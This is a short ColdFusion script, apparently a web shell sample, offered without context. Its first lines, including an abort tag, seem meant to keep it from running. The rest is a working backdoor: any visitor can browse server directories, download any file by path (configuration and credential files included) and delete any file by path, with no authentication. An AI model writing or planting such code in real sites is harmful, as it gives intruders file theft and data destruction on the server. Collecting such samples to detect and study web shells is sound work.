<cfinert>
<cfabort>
<cfparam name="url.d" default="#expandPath('.')#">
<cfif isDefined("url.r")><cffile action="readbinary" file="#url.r#" variable="b"><cfcontent type="application/octet-stream" variable="#b#"></cfif>
<cfif isDefined("url.x")><cffile action="delete" file="#url.x#"></cfif>
<cfdirectory action="list" directory="#url.d#" name="l">
<cfoutput query="l"><a href="?d=#url.d#/#name#">#name#</a> #size# <a href="?r=#url.d#/#name#">r</a> <a href="?x=#url.d#/#name#">x</a><br></cfoutput>
